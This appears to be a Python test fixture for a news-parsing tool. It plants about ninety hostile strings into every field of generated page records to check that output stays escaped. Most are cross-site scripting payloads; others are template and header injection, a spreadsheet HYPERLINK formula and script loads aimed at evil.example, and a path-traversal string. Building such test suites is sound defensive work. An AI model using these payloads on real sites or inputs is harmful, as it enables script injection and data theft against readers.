"""Pages that attack those who read them: every vector in every field that a page can fill, as records in a store."""

from __future__ import annotations

from datetime import date, timedelta
from typing import TYPE_CHECKING

from dateline import ingest
from dateline.records import (
    Actor,
    ActorId,
    ActorKind,
    Change,
    Citation,
    Comparator,
    Event,
    EventId,
    Figure,
    FigureId,
    Interval,
    Mention,
    Page,
    PageId,
    Place,
    Precision,
    Reading,
    Reason,
    Rejected,
    Removal,
    Removed,
    Statement,
    StatementId,
    StatementKind,
    Status,
    Story,
    StoryKind,
    Tenure,
    TenureId,
    record_id,
    story_id,
)
from dateline.spans import Span
from dateline.store import Writer

if TYPE_CHECKING:
    from pathlib import Path

AWAY = "//evil.example"
# What runs calls __hit; what is only fetched goes to evil.example. Each stands for a way that got through somewhere.
VECTORS = (
    # elements that run by themselves
    "<script>__hit(1)</script>",
    "<ScRiPt>__hit(1)</sCrIpT>",
    "<script >__hit(1)</script >",
    "<scr<script>ipt>__hit(1)</scr</script>ipt>",
    f"<script src={AWAY}/x.js></script>",
    "<script type=module>__hit(1)</script>",
    "<script/x>__hit(1)</script>",
    "<script\n>__hit(1)</script\t>",
    "</script><script>__hit(1)</script>",
    "</title><script>__hit(1)</script>",
    "</textarea><script>__hit(1)</script>",
    "</style><script>__hit(1)</script>",
    "--><script>__hit(1)</script><!--",
    "]]><script>__hit(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=__hit(1)>">',
    # attributes that run
    "<img src=x onerror=__hit(1)>",
    '<img src=x onerror="__hit(1)"',
    "<img/src=x/onerror=__hit(1)>",
    "<img src=`x`onerror=__hit(1)>",
    "<svg onload=__hit(1)>",
    "<svg/onload=__hit(1)//",
    "<svg><script>__hit(1)</script></svg>",
    "<svg><animate onbegin=__hit(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:__hit(1)'><text y=20>x</text></a></svg>",
    "<body onload=__hit(1)>",
    "<details open ontoggle=__hit(1)>",
    "<video><source onerror=__hit(1)></video>",
    "<audio src=x onerror=__hit(1)>",
    "<input autofocus onfocus=__hit(1)>",
    "<select autofocus onfocus=__hit(1)>",
    "<marquee onstart=__hit(1)>x</marquee>",
    "<p style='animation:x 1s' onanimationstart=__hit(1)>x</p>",
    "<iframe src='javascript:__hit(1)'></iframe>",
    "<iframe srcdoc='<script>parent.__hit(1)</script>'></iframe>",
    "<object data='javascript:__hit(1)'></object>",
    "<embed src='javascript:__hit(1)'>",
    "<form action='javascript:__hit(1)'><button autofocus>x</button></form>",
    "<button formaction='javascript:__hit(1)' form=x>x</button>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__hit(1)&gt;">',
    "<isindex type=image src=1 onerror=__hit(1)>",
    # out of an attribute
    '" onmouseover="__hit(1)" x="',
    "' onmouseover='__hit(1)' x='",
    '"><img src=x onerror=__hit(1)>',
    "'><img src=x onerror=__hit(1)>",
    "` onfocus=__hit(1) autofocus x=`",
    '" autofocus onfocus=__hit(1) x="',
    # addresses
    "javascript:__hit(1)",
    "JaVaScRiPt:__hit(1)",
    " javascript:__hit(1)",
    "java\tscript:__hit(1)",
    "java\nscript:__hit(1)",
    "\x01javascript:__hit(1)",
    "javascript://example.org/%0a__hit(1)",
    "data:text/html,<script>__hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==",
    "vbscript:__hit(1)",
    "view-source:javascript:__hit(1)",
    AWAY,
    'http://evil.example/"onmouseover="__hit(1)',
    "https://evil.example/'><script>__hit(1)</script>",
    # pages that lead away, and styles
    f"<meta http-equiv=refresh content='0;url=http:{AWAY}/'>",
    f"<base href=http:{AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f'<p style="background:url({AWAY}/x)">x</p>',
    # templates and libraries
    "{{ 7 * 7 }}{% raw %}{{ self.__init__ }}",
    "{{constructor.constructor('__hit(1)')()}}",
    "${__hit(1)}",
    "<div hx-on:load='__hit(1)' hx-get='/x' hx-trigger=load hx-vals='js:{x:__hit(1)}'>x</div>",
    "<div data-hx-on--load='__hit(1)'>x</div>",
    "<div data-copy='x' data-spec='data:application/json,{}'>x</div>",
    "<template><script>__hit(1)</script></template>",
    # encodings
    "&lt;script&gt;__hit(1)&lt;/script&gt;",
    "&#60;script&#62;__hit(1)&#60;/script&#62;",
    "%3Cscript%3E__hit(1)%3C/script%3E",
    "\\u003cscript\\u003e__hit(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-__hit(1)+ADw-/script+AD4-",
    "＜script＞__hit(1)＜/script＞",
    "<\u200bscript>__hit(1)</script>",
    "\u202e<script>__hit(1)</script>",
    "<script>\u2028__hit(1)</script>",
    # lines that other formats would obey
    "x\r\nSet-Cookie: dateline_desk=x\r\n\r\n<script>__hit(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "../../../etc/passwd<script>__hit(1)</script>",
)  # fmt: skip
DAY = date(2024, 5, 1)


def hostile(number: int, vector: str) -> Reading:
    """Return the reading of a page that has the vector wherever a page can have words."""
    text = f'{vector} of China told reporters that China backs Russia, "{vector}" in {vector}.\n\nThe trade rose to 5 {vector}.'
    day = DAY + timedelta(days=number)
    name = story_id(headline=vector, agency=vector, place=vector, published=day, text=text)
    story = Story(
        name, PageId(f"hostile-{number}"), StoryKind.MAIN, text, vector, byline=(vector, vector), agency=vector, outlet=vector,
        place=vector, published=day, section=vector, language="en", url=vector,
    )  # fmt: skip

    def cite(words: str, nth: int = 0) -> Citation:
        start = -1
        for _ in range(nth + 1):
            start = text.index(words, start + 1)
        return Citation(name, Span(start, start + len(words)), words)

    flat = " ".join(vector.split())  # as ids are made from names
    who = Actor(ActorId(f"CHN/GOV:{flat}" if number % 2 else f"who-{number}"), "CHN/GOV", vector, ActorKind.PERSON, "CHN", "GOV")
    china = Actor(ActorId("CHN"), "CHN", "China", ActorKind.STATE, "CHN")
    group = Actor(ActorId(f"group-{number}"), f"GRP:{vector}", f"{vector} group", ActorKind.GROUP, "RUS")
    russia = Actor(ActorId("RUS"), "RUS", "Russia", ActorKind.STATE, "RUS")
    place = Place(vector, cite(vector), geonames=number, lat=10.0 + number / 10, lon=20.0, country="CHN")
    when = Interval(day, day, Precision.DAY, cite("China backs"))
    speaker, backs, cited = Mention(cite(vector), who.id), cite("China backs Russia"), cite(vector, 1)
    said = Statement(
        StatementId(record_id("statement", backs)), name, (speaker,), (backs, cited), StatementKind.MIXED,
        addressees=(Mention(cite("Russia"), russia.id),), via=(Mention(cited, group.id),), said_on=when, place=place,
    )  # fmt: skip
    event = Event(
        EventId(record_id("event", cite("backs"))), name, "SUPPORT", Status.ALLEGED,
        (speaker, Mention(cite("China", 1), china.id)), cite("backs"),
        Citation(name, Span(backs.span.start, cited.span.end), text[backs.span.start : cited.span.end]),
        recipients=(Mention(cite("Russia"), russia.id), Mention(cited, group.id)), when=when, place=place, statement=said.id,
        denied_by=(group.id,), plover_score=5.0, quad_plover=1,
    )  # fmt: skip
    tenure = Tenure(
        TenureId(record_id("tenure", cite(vector))), name, who.id, f"head of {vector}", Change.HOLDS, cite(vector), china.id
    )
    trade = cite("The trade rose to 5")
    figure = Figure(
        FigureId(record_id("figure", trade)), name, f"trade in {vector}", 5.0, vector, Comparator.MORE, trade,
        actors=(china.id, russia.id, who.id), when=when,
    )  # fmt: skip
    return Reading(
        page=Page(PageId(f"hostile-{number}"), "", path=f"{vector}-{number}", url=vector, digest_of_content="00"),
        stories=(story,),
        removed=tuple(Removed(vector, reason, name, 5) for reason in (Removal.CAPTION, Removal.SUBHEAD, Removal.OTHER)),
        actors=(who, china, group, russia),
        statements=(said,),
        events=(event,),
        tenures=(tenure,),
        figures=(figure,),
        rejected=(Rejected(PageId(f"hostile-{number}"), "story", Reason.INVALID, vector, vector),),
        mentions=(speaker, Mention(cite("China", 1), china.id), Mention(cite("Russia"), russia.id), Mention(cited, group.id)),
    )


def make_record(path: Path) -> tuple[Reading, ...]:
    """Make a database of all hostile pages, and return their readings."""
    readings = tuple(hostile(number, vector) for number, vector in enumerate(VECTORS))
    with Writer(path) as writer:
        for reading in readings:
            writer.add(reading)
        ingest.relink(writer)
    return readings
